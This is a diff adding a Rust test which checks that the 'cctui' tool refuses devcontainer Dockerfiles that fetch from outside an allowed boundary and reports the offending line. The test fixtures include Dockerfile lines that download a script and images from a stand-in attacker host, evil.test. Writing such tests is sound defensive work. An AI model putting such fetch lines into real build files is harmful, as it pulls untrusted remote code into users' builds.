@@ -217,3 +217,34 @@ fn a_fifo_or_huge_proposal_file_is_refused_not_read() {
     assert_ne!(code, 0, "{err}");
     assert!(err.contains("cctui does not read it"), "{err}");
 }
+
+#[test]
+fn a_dockerfile_that_fetches_outside_the_fence_is_refused_naming_the_line() {
+    let name = unique("propfetch");
+    let cfg = TempFolder::new(&format!("{name}-cfg"), 0);
+    write_cli_config(&cfg.path, "");
+    let project = TempFolder::new(&name, UID);
+    let dc = project.path.join(".devcontainer");
+    write(
+        &dc.join("devcontainer.json"),
+        r#"{"build":{"dockerfile":"Dockerfile"}}"#,
+    );
+    let p = project.path.to_str().unwrap();
+    for (dockerfile, line) in [
+        (
+            "FROM debian:bookworm-slim\nADD http://evil.test/x.sh /x.sh\n",
+            ":2:",
+        ),
+        (
+            "FROM debian:bookworm-slim\nCOPY --from=evil.test/img /k /k\n",
+            ":2:",
+        ),
+        ("ARG B=evil.test/img\nFROM ${B}\n", ":2:"),
+    ] {
+        write(&dc.join("Dockerfile"), dockerfile);
+        let (code, out, err) = cctui(&cfg.path, &["project", "accept", p]);
+        assert_ne!(code, 0, "{dockerfile}: accepted:\n{out}{err}");
+        assert!(err.contains(&format!("Dockerfile{line}")), "{err}");
+        assert!(!cfg.path.join("projects").exists(), "{dockerfile}");
+    }
+}
